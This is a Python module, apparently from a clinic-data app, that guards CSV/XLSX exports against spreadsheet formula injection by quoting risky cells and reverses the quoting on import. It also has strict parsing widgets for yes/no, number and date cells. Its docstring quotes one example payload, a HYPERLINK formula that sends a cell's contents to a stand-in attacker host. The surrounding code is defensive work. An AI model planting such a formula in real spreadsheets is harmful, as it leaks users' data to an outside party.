"""A spreadsheet cell's text on its way out (CSV and XLSX exports) and back in (their import).

A clinic's own words (its marketing copy, a claim) can be written to look like a formula:
``=HYPERLINK("http://evil.example/?leak="&A1,"click")``. A spreadsheet runs text that starts with
``= + - @`` (or a tab or carriage return before one) as a formula, so every exported text cell
that starts so is written with one leading apostrophe, as OWASP's advice on CSV injection says:
a spreadsheet shows ``'=HYPERLINK(...)`` as text, and nothing of the text is dropped. The
import takes that one apostrophe off again, so an exported sheet imports back unchanged. Text
that already starts with apostrophes before such a character gets one more, so the two
directions are exact inverses. Numbers stay numbers: a number cell, or a text that is only a
number (``-5``, ``+3.5``), is no formula and is left as it is. The JSON export is not a
spreadsheet and keeps the text as written.

Cells are read strictly (the widgets below): a yes/no question accepts yes, no or empty
(unknown), never a guess; a number must be a number; a date is written YYYY-MM-DD.

An XLSX file cannot hold most control characters (openpyxl refuses the whole file): the XLSX
export writes each as U+FFFD. The doors refuse them (clinics.schema), so only a row stored
before they did can hold one; the CSV export keeps it, and importing that row names it.
"""

from __future__ import annotations

import datetime
import decimal
import re
from collections.abc import Mapping
from typing import Any

from import_export import widgets

# The characters a spreadsheet reads as the start of a formula (OWASP: CSV injection).
DANGEROUS_FIRST = frozenset("=+-@\t\r")
QUOTE = "'"
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
# What openpyxl refuses to write (its ILLEGAL_CHARACTERS_RE): C0 controls but tab, LF and CR.
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _would_run(text: str) -> bool:
    return bool(_NEEDS_QUOTE.match(text)) and not _PLAIN_NUMBER.fullmatch(text)


def cell_out(value: Any) -> Any:
    """An exported cell: a text a spreadsheet would run is written behind one apostrophe."""
    if isinstance(value, str) and _would_run(value):
        return QUOTE + value
    return value


def cell_in(value: Any) -> Any:
    """An imported cell: the exact inverse of ``cell_out``."""
    if isinstance(value, str) and value.startswith(QUOTE) and _would_run(value[1:]):
        return value[1:]
    return value


def xlsx_safe(value: Any) -> Any:
    """An exported XLSX cell: a character the format cannot hold written as U+FFFD."""
    if isinstance(value, str):
        return _NOT_IN_XLSX.sub("\N{REPLACEMENT CHARACTER}", value)
    return value


UNKNOWN_WORDS = frozenset({"", "unknown", "null", "none", "?"})
TRUE_WORDS = frozenset({"yes", "true", "1", "y"})
FALSE_WORDS = frozenset({"no", "false", "0", "n"})


class YesNoUnknownWidget(widgets.Widget):
    """yes / no / empty. Empty means nobody knows, which is not "no"."""

    def clean(self, value: Any, row: Mapping | None = None, **kwargs: Any) -> bool | None:
        if value is None or isinstance(value, bool):
            return value
        if isinstance(value, int | float) and value in (0, 1):
            return bool(value)
        word = str(value).strip().lower()
        if word in UNKNOWN_WORDS:
            return None
        if word in TRUE_WORDS:
            return True
        if word in FALSE_WORDS:
            return False
        raise ValueError(f"“{value}” is not yes, no or empty (unknown).")

    def render(self, value: Any, obj: Any = None, **kwargs: Any) -> str:
        return "" if value is None else ("yes" if value else "no")


def _finite_number(value: Any, what: str) -> decimal.Decimal:
    """A cell's number, or ValueError naming the cell as not ``what`` (NaN and infinity too)."""
    try:
        number = decimal.Decimal(str(value).strip())
    except (ArithmeticError, ValueError):
        raise ValueError(f"“{value}” is not {what}.") from None
    if not number.is_finite():
        raise ValueError(f"“{value}” is not {what}.")
    return number


class WholeNumberWidget(widgets.IntegerWidget):
    def clean(self, value: Any, row: Mapping | None = None, **kwargs: Any) -> int | None:
        if self.is_empty(value):
            return None
        number = _finite_number(value, "a whole number")
        if number != number.to_integral_value():
            raise ValueError(f"“{value}” is not a whole number.")
        return int(number)


class DecimalNumberWidget(widgets.DecimalWidget):
    def clean(
        self, value: Any, row: Mapping | None = None, **kwargs: Any
    ) -> decimal.Decimal | None:
        if self.is_empty(value):
            return None
        return _finite_number(value, "a number")


class IsoDateWidget(widgets.DateWidget):
    """YYYY-MM-DD only: 01/02/2020 is January in one country and February in another."""

    def __init__(self, **kwargs: Any) -> None:
        super().__init__(format="%Y-%m-%d", **kwargs)

    def clean(self, value: Any, row: Mapping | None = None, **kwargs: Any) -> datetime.date | None:
        if isinstance(value, datetime.datetime):
            return value.date()
        if isinstance(value, datetime.date):
            return value
        if value is None or not str(value).strip():
            return None
        try:
            return datetime.date.fromisoformat(str(value).strip())
        except ValueError:
            raise ValueError(f"“{value}” is not a date written YYYY-MM-DD.") from None
